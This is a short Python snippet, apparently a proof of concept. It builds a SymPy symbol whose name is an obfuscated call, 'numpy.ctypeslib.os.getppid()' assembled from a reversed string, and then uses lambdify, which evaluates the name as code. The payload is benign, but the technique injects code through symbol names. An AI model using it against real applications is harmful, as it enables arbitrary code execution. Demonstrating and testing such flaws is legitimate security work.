# symbol named by func with a call in its name
import sympy
x = sympy.Symbol('x')
y = x.func('numpy.ctypeslib.os.' + ''.join(reversed(')(dippteg')))
print(sympy.lambdify([], y, 'numpy')())
